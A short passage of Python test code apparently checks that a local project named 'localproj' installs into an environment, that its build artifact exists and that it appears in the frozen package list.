    assert _install(env, str(project)) == 0
    assert built.exists()
    assert freeze(env["python"]).split()[0].startswith("localproj")
    capsys.readouterr()
